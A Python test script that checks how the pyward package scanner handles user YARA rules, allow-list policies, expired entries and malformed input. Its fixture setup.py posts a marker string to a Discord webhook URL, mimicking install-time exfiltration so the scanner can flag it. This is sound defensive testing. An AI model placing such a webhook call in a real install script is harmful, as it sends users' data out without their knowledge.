#!/usr/bin/env python3
"""Command-line contract of `pyward scan --rules DIR` and `--policy FILE`:
YARA findings with their meta, exit 2 naming the file and line of a broken
rule or policy, suppressed findings gone from the report and the verdict,
expired entries reported. Inputs are harmless text written here.

usage: scan_rules_policy_test.py PYWARD_BINARY SOURCE_DIR
"""
import hashlib
import json
import os
import subprocess
import sys
import tempfile

PYWARD, SRC = sys.argv[1], sys.argv[2]
failures = []


def check(cond, what):
    if not cond:
        failures.append(what)
        print("FAIL:", what)


def run(*args):
    p = subprocess.run([PYWARD, "scan", "-q", "--no-name-checks", *args], capture_output=True,
                       text=True, stdin=subprocess.DEVNULL)
    return p.returncode, p.stdout, p.stderr


def rules_of(out):
    return [f["rule"] for f in json.loads(out)["results"][0]["findings"]]


tmp = tempfile.mkdtemp(prefix="pyward_rules_")
target = os.path.join(tmp, "setup.py")
with open(target, "w") as f:
    f.write("import requests\n"
            "requests.post('https://discord.com/api/webhooks/1/x', data='MARKER-7')\n")
sha = hashlib.sha256(open(target, "rb").read()).hexdigest()

# --rules: a user rule matches, with its meta.
rules = os.path.join(tmp, "rules")
os.mkdir(rules)
with open(os.path.join(rules, "mine.yar"), "w") as f:
    f.write('rule marker_seen {\n  meta:\n    severity = "critical"\n'
            '    description = "the test marker"\n  strings:\n    $m = "MARKER-7"\n'
            '  condition:\n    $m\n}\n')
rc, out, err = run("--format", "json", "--rules", rules, target)
check(rc in (0, 1), f"--rules exit {rc}: {err}")
findings = json.loads(out)["results"][0]["findings"] if out else []
yara = [f for f in findings if f["rule"] == "yara-marker_seen"]
check(len(yara) == 1 and yara[0]["severity"] == "critical" and
      yara[0]["message"] == "the test marker" and yara[0]["line"] == 2,
      f"yara finding: {yara}")
check("indicator-webhook" in [f["rule"] for f in findings], "indicator finding present")

# The shipped example rules compile.
rc, out, err = run("--rules", os.path.join(SRC, "data", "yara"), target)
check(rc in (0, 1), f"data/yara rules: exit {rc}: {err}")

# A broken rule: exit 2, naming file and line.
bad_rules = os.path.join(tmp, "bad_rules")
os.mkdir(bad_rules)
with open(os.path.join(bad_rules, "broken.yara"), "w") as f:
    f.write("rule broken {\n  condition:\n    undefined_thing\n}\n")
rc, out, err = run("--rules", bad_rules, target)
check(rc == 2 and "broken.yara:" in err, f"broken rule: exit {rc}, stderr {err!r}")
rc, out, err = run("--rules", os.path.join(tmp, "missing"), target)
check(rc == 2 and "missing" in err, f"missing rules folder: exit {rc}, stderr {err!r}")

# --policy: by rule, by sha256; the verdict follows.
def policy(text):
    p = os.path.join(tmp, "policy.toml")
    with open(p, "w") as f:
        f.write(text)
    return p

rc, out, err = run("--format", "json", target)
base = json.loads(out)["results"][0]
check("indicator-webhook" in rules_of(out), "baseline has the webhook finding")
rc, out, err = run("--format", "json", "--policy",
                   policy('[[allow]]\nrule = "indicator-webhook"\nreason = "our own alerts"\n'),
                   target)
check(rc in (0, 1) and "indicator-webhook" not in rules_of(out), f"allow by rule: {rc} {err}")
check(json.loads(out)["results"][0]["score"] <= base["score"], "score does not grow")
rc, out, err = run("--format", "json", "--policy",
                   policy(f'[[allow]]\nsha256 = "{sha}"\nreason = "reviewed"\n'), target)
check(rc == 0 and json.loads(out)["results"][0]["verdict"] == "clean" and not rules_of(out),
      f"allow by sha256: exit {rc}, {out[:200]}")

# An expired entry stops applying and says so.
rc, out, err = run("--format", "json", "--policy",
                   policy('[[allow]]\nrule = "indicator-webhook"\nreason = "temporary"\n'
                          'expires = 2001-01-01\n'), target)
r = rules_of(out)
check("indicator-webhook" in r and "policy-expired" in r, f"expired entry: {r}")
check("expired" in err and "2001-01-01" in err, f"expired note on stderr: {err!r}")

# A bad policy: exit 2 with file and problem.
rc, out, err = run("--policy", policy('[[allow]]\nrule = "x"\n'), target)
check(rc == 2 and "policy.toml:1" in err and "reason" in err,
      f"policy without reason: exit {rc}, stderr {err!r}")
rc, out, err = run("--policy", policy('[[allow]\n'), target)
check(rc == 2 and "policy.toml" in err, f"invalid TOML: exit {rc}, stderr {err!r}")
rc, out, err = run("--policy", os.path.join(tmp, "nope.toml"), target)
check(rc == 2 and "nope.toml" in err, f"missing policy: exit {rc}, stderr {err!r}")

print(f"{'FAILED' if failures else 'OK'}: {len(failures)} failure(s)")
sys.exit(1 if failures else 0)
